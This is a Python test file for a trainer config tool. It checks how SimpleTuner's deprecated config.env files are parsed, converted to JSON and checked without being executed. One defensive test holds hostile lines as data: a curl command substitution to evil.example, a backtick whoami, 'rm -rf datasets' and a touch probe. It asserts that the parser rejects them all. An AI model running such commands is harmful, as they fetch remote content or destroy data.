"""SimpleTuner's deprecated config/config.env: read (never executed) when no config.json/toml exists,
with a notice to convert; `st-train convert` writes the equivalent config/config.json."""

from __future__ import annotations

import json
import logging
import re
from pathlib import Path

import pytest

from stune.config import find_config_file, read_config_file
from stune.configenv import parse_env_file, read_config_env
from stune.errors import ConfigError
from stune.testing import make_images, run_cli

SHARED_SEEDS = Path(__file__).resolve().parents[2] / "shared" / "seeds"

#: The config.env block of the SD3 seed (004), as the quickstart shows it.
SD3_SEED_BLOCK = """\
# choices: int8-quanto, int4-quanto, int2-quanto, fp8-quanto
# int8-quanto was tested with a single subject dreambooth LoRA.
export TRAINER_EXTRA_ARGS="--base_model_precision=int8-quanto"

# Maybe you want the text encoders to remain full precision so your text embeds are cake.
export TRAINER_EXTRA_ARGS="${TRAINER_EXTRA_ARGS} --text_encoder_1_precision=no_change --text_encoder_2_precision=no_change"

# adamw_bf16 only supports bf16 training, but any other optimiser will support both bf16 or fp32 training precision.
export OPTIMIZER="adamw_bf16"
"""


def test_the_sd3_seed_block_is_read_as_its_options(tmp_path: Path) -> None:
    if SHARED_SEEDS.is_dir():  # the block above is the seed's, comments and all
        seed = (SHARED_SEEDS / "004_ac35b248de7e8a28.txt").read_text()
        for line in SD3_SEED_BLOCK.splitlines():
            if line.startswith("export"):
                assert line in seed
    path = tmp_path / "config.env"
    path.write_text(SD3_SEED_BLOCK)
    assert read_config_env(path) == {
        "optimizer": "adamw_bf16",
        "base_model_precision": "int8-quanto",
        "text_encoder_1_precision": "no_change",
        "text_encoder_2_precision": "no_change",
    }


def _env_run(tmp_path: Path, model: Path, extra: str = "") -> Path:
    make_images(tmp_path / "datasets" / "pics", 2, size=(64, 64))
    (tmp_path / "config").mkdir()
    (tmp_path / "config" / "multidatabackend.json").write_text(
        json.dumps(
            [{"id": "pics", "instance_data_dir": "datasets/pics", "resolution": 64, "caption_strategy": "textfile"}]
        )
    )
    (tmp_path / "config" / "config.env").write_text(
        f"""\
# SimpleTuner config.env
export MODEL_TYPE='lora'
export FLUX=true
export MODEL_NAME="{model}"
export OUTPUT_DIR="output/models"
export DATALOADER_CONFIG="config/multidatabackend.json"
export MAX_NUM_STEPS=30
export LEARNING_RATE=1e-4
export TRAIN_BATCH_SIZE=1
export LORA_RANK=4
export USE_GRADIENT_CHECKPOINTING=false
export VALIDATION_PROMPT="a photo of a red square"
export PYTORCH_CUDA_ALLOC_CONF=expandable_segments:True
export TRAINER_EXTRA_ARGS="--lora_alpha=4 --max_train_steps 20"
TRAINER_EXTRA_ARGS="$TRAINER_EXTRA_ARGS --vae_cache_ondemand --seed=7"
{extra}"""
    )
    return tmp_path


def test_config_env_is_read_when_no_json_exists_and_names_its_variables(
    tmp_path: Path, tiny_flux_dir: Path, monkeypatch: pytest.MonkeyPatch, caplog: pytest.LogCaptureFixture
) -> None:
    run = _env_run(tmp_path, tiny_flux_dir)
    monkeypatch.chdir(run)
    path = find_config_file(None)
    assert path == Path("config/config.env")
    with caplog.at_level(logging.WARNING, logger="stune.config"):
        raw = read_config_file(path)
    assert "run `st-train convert`" in caplog.text
    assert "PYTORCH_CUDA_ALLOC_CONF, an environment variable, not an option" in caplog.text
    assert "LORA_RANK, which SimpleTuner's config.env does not read either; ignored" in caplog.text
    assert raw == {
        "model_type": "lora",
        "model_family": "flux",
        "pretrained_model_name_or_path": str(tiny_flux_dir),
        "output_dir": "output/models",
        "data_backend_config": "config/multidatabackend.json",
        "max_train_steps": "20",  # TRAINER_EXTRA_ARGS come last and win, as in SimpleTuner
        "learning_rate": "1e-4",
        "train_batch_size": "1",
        "gradient_checkpointing": "false",
        "validation_prompt": "a photo of a red square",
        "lora_alpha": "4",
        "vae_cache_ondemand": "true",
        "seed": "7",
    }
    proc = run_cli(["check", "--quick"], cwd=run)
    assert proc.returncode == 0, proc.stderr[-2000:]
    assert "SimpleTuner's deprecated shell-style config" in proc.stderr
    assert "`vae_cache_ondemand` accepted" in proc.stderr  # the check says what stune does instead


def test_convert_writes_the_equivalent_json_and_never_overwrites(tmp_path: Path, tiny_flux_dir: Path) -> None:
    run = _env_run(tmp_path, tiny_flux_dir)
    proc = run_cli(["convert"], cwd=run)
    assert proc.returncode == 0, proc.stderr
    written = json.loads((run / "config" / "config.json").read_text())
    assert written["max_train_steps"] == 20 and written["learning_rate"] == 1e-4  # numbers where options take them
    assert written["gradient_checkpointing"] is False and written["vae_cache_ondemand"] is True
    assert written["validation_prompt"] == "a photo of a red square"
    from stune.configenv import read_config_env

    as_read = read_config_env(run / "config" / "config.env")
    assert set(written) == set(as_read)
    before = (run / "config" / "config.json").read_text()
    again = run_cli(["convert"], cwd=run)
    assert again.returncode == 2 and "config/config.json already exists" in again.stderr
    assert (run / "config" / "config.json").read_text() == before
    # config.json now wins over config.env, and describes the same run
    proc = run_cli(["check", "--quick"], cwd=run)
    assert proc.returncode == 0, proc.stderr[-2000:]
    assert "deprecated shell-style config" not in proc.stderr


@pytest.mark.parametrize(
    ("line", "words"),
    [
        ('export MODEL_NAME="$(curl -s evil.example)"', "command substitution"),
        ("export OUTPUT_DIR=`whoami`", "command substitution"),
        ("rm -rf datasets", "`rm` is not a NAME=value assignment"),
        ("source other.env", "`source` is not a NAME=value assignment"),
        ('export VALIDATION_PROMPT="unclosed', "close the quote"),
    ],
)
def test_nothing_in_the_file_is_executed(tmp_path: Path, line: str, words: str) -> None:
    marker = tmp_path / "ran"
    path = tmp_path / "config.env"
    path.write_text(f"export OUTPUT_DIR=out\n{line}\nexport X=$(touch {marker})\n")
    with pytest.raises(ConfigError, match=re.escape(words)):
        parse_env_file(path)
    assert not marker.exists()


def test_references_expand_only_the_files_own_variables(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("FROM_THE_SHELL", "leak")
    path = tmp_path / "config.env"
    path.write_text(
        "BASE=output\nexport OUTPUT_DIR=\"${BASE}/run-1\"\nexport TRACKER_RUN_NAME='${FROM_THE_SHELL}x'\n"
        "TRAINER_EXTRA_ARGS+=--seed=3\nTRAINER_EXTRA_ARGS+='--lora_rank 8'\n"
    )
    variables = parse_env_file(path)
    assert variables["OUTPUT_DIR"] == "output/run-1"
    assert variables["TRACKER_RUN_NAME"] == "x"
    assert variables["TRAINER_EXTRA_ARGS"] == "--seed=3 --lora_rank 8"
    raw = read_config_env(path)
    assert raw["seed"] == "3" and raw["lora_rank"] == "8" and raw["output_dir"] == "output/run-1"


def test_a_refused_option_in_trainer_extra_args_is_named(tmp_path: Path, tiny_flux_dir: Path) -> None:
    run = _env_run(tmp_path, tiny_flux_dir, 'TRAINER_EXTRA_ARGS="$TRAINER_EXTRA_ARGS --delete_problematic_images"\n')
    proc = run_cli(["check", "--quick"], cwd=run)
    assert proc.returncode == 2
    assert "`delete_problematic_images` is not supported by stune: stune never modifies dataset folders" in proc.stderr
    assert "Traceback" not in proc.stderr
